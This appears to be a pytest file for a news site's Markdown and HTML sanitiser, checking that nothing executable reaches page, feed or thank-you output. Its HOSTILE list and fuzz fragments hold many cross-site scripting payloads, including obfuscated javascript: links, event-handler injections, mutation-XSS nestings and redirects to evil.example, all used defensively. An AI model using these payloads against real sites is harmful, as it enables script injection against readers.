"""Hostile Markdown and HTML: nothing that acts may reach a page or a feed."""

from __future__ import annotations

import re

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsroom.body.sanitiser import ATTRIBUTES, CLASSES, SCHEMES, TAGS, VALUES, sanitise
from tests.newsroom.paper import converted

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://track.example/p.gif">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed">x</p>',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='https://a.example' target=_blank rel=opener>x</a>",
    "[x](javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x][x]",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\" onclick=alert(1) x=\\"")',
    '![x](a.png "\\" onerror=alert(1) \\"")',
    "<form action=https://evil.example><input name=a><button>x</button></form>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example>",
    "<p id=main class='site-header skip-link'>x</p>",
    "<div data-embed='https://evil.example' class=embed><a href=x>x</a></div>",
    "<div role=alert aria-live=assertive tabindex=5>x</div>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<!--<script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('ls') ?>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<table><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "*[a]: <script>alert(1)</script>\n\na",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "/// luu-y | <script>alert(1)</script>\nx\n///",
    "/// luu-y\n    attrs: {id: main, onclick: alert(1)}\nx\n///",
    "/// trich-dan | <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n///",
    '/// video | https://youtu.be/abcdefgh\n"><script>alert(1)</script>\n///',
    '/// video | https://youtu.be/abc"onclick=alert(1)\nx\n///',
    "# <script>alert(1)</script>",
    "Hỏi: <script>alert(1)</script>?\n\nĐáp: x",
    "<a id=cau-1 name=x>x</a>",
    '[x](post:1"onclick=alert(1))',
]
_OWN = {"embed": {"class", "data-embed", "data-embed-title"}}


def scheme_of(address: str) -> str:
    """As browsers see it: tabs and line ends do not count, white space and controls before it neither."""
    seen = re.sub(r"[\t\r\n]", "", address).lstrip("".join(map(chr, range(33))))
    match = re.match(r"[a-z][a-z0-9+.-]*(?=:)", seen, re.IGNORECASE)
    return match.group().lower() if match else ""


def offences(html: str) -> list[str]:
    """What a browser would find in `html` that no page may hold."""
    found = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str) or element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in TAGS:
            found.append(f"<{element.tag}>")
        facade = element.get("class") == "embed" and (element.get("data-embed") or "").startswith(
            ("https://www.youtube-nocookie.com/embed/", "https://player.vimeo.com/video/")
        )
        for name, value in element.attrib.items():
            allowed = {*ATTRIBUTES["*"], *ATTRIBUTES.get(element.tag, ()), *VALUES.get(element.tag, ()), "class", "rel"}
            if name not in allowed and not (facade and name in _OWN["embed"]):
                found.append(f"{element.tag} {name}")
            if name == "class" and not facade and not set(value.split()) <= CLASSES.get(element.tag, set()):
                found.append(f"class {value}")
            if name in ("href", "cite") and scheme_of(value) not in ("", *SCHEMES):
                found.append(f"{name} {value}")
            if name == "id" and not re.match(r"(cau-|muc-|fn|fnref)", value):
                found.append(f"id {value}")
            if name == "rel" and value != "noopener":
                found.append(f"rel {value}")
    return found


@pytest.mark.parametrize("source", HOSTILE, ids=[text[:40].replace("\n", " ") for text in HOSTILE])
@pytest.mark.parametrize("kind", ["news", "interview"])
def test_nothing_hostile_reaches_page_or_feed(source: str, kind: str) -> None:
    from newsroom.model.article import Kind

    body, _report = converted(f"Trước.\n\n{source}\n\nSau.", Kind(kind))
    assert offences(body.html) == []
    assert offences(body.feed_html) == []
    assert offences(body.thanks) == []


PARTS = [
    *(
        "<script>",
        "</script>",
        "<a href=",
        "<img ",
        "<svg ",
        "<p ",
        "<b ",
        "<style>",
        "<math>",
        "<!--",
        "-->",
        "<![CDATA[",
    ),
    *("]]>", "'", '"', ">", "<", "=", "javascript:", "alert(1)", " onerror=", " id=main", "&", "&lt;", "&#x3c;", "\\"),
    *("`", "```", "[x](", ")", "![", "]", "*", "**", "_", "#", "-", "1.", "|", "\n", "\n\n", "\t", " "),
    *("////", "///", "luu-y", "video", ":", "[^1]"),
]


@settings(max_examples=300)
@given(
    st.lists(
        st.sampled_from(PARTS),
        max_size=25,
    )
)
def test_no_mixture_of_hostile_parts_gets_through(parts: list[str]) -> None:
    body, _report = converted("".join(parts))
    assert offences(body.html) == []
    assert offences(body.feed_html) == []


def test_links_that_lead_out_get_rel_and_others_do_not() -> None:
    html = sanitise(
        '<a href="https://a.example/b">a</a><a title="t" href="//a.example">b</a><a href="/c">c</a><a href="#d">d</a>'
    )
    assert html.count('rel="noopener"') == 2
    assert '<a href="/c">' in html


def test_text_that_looks_like_markup_is_left_alone() -> None:
    assert (
        sanitise('<p id="x">viết id="x" và &lt;a href="https://b"&gt;</p>')
        == '<p>viết id="x" và &lt;a href="https://b"&gt;</p>'
    )


def test_dropped_html_is_a_warning_with_its_line() -> None:
    _body, report = converted('Một.\n\nHai <img src="x"> và <font>ba</font> và <b>bốn</b>.')
    assert [(warning.line, warning.code) for warning in report.warnings] == [(3, "html"), (3, "html")]
